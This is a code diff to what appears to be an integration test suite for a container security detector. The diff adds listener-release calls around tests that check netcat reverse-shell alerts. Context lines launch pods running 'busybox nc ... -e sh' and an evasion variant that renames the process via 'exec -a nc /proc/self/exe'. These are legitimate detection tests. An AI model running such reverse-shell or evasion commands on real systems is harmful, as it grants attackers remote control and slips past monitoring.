@@ -129,6 +129,7 @@ describe.skipIf(unavailable)('detections that hold against evasion', () => {
       namespace: 'evasion', pod: 'busybox-nc', container: 'app', image: BUSYBOX,
       command: ['busybox', 'nc', gateway, String(l.port), '-e', 'sh'],
     });
+    l.release();
     await l.connected(15_000);
     const nc = await agent.waitForAlert(forPod(pod, 'Netcat Remote Code Execution in Container'), 10_000);
     expect(nc.priority).toBe('Warning');
@@ -142,6 +143,7 @@ describe.skipIf(unavailable)('detections that hold against evasion', () => {
       namespace: 'evasion', pod: 'busybox-reexec', container: 'app', image: BUSYBOX,
       command: ['sh', '-c', `exec -a nc /proc/self/exe ${gateway} ${l.port} -e sh`],
     });
+    l.release();
     await l.connected(15_000);
     const nc = await agent.waitForAlert(forPod(pod, 'Netcat Remote Code Execution in Container'), 10_000);
     expect(nc.priority).toBe('Warning');
